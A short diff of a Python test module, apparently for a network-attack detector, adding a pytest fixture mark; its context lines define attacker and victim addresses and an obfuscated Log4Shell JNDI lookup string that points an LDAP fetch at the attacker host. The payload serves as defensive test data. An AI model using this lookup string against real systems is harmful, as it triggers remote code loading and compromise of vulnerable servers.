@@ -15,6 +15,9 @@ import pytest
 from tests.detect import wire
 from tests.detect.replay import replay
 
+# Every behaviour here holds on the compiled common case and on the Python reference alike.
+pytestmark = pytest.mark.usefixtures("speedups_off")
+
 ATTACKER, VICTIM = "10.231.0.1", "10.231.0.2"
 LOOKUP = "${${lower:j}${::-n}di:ldap://10.231.0.1:1389/Exploit}"
 
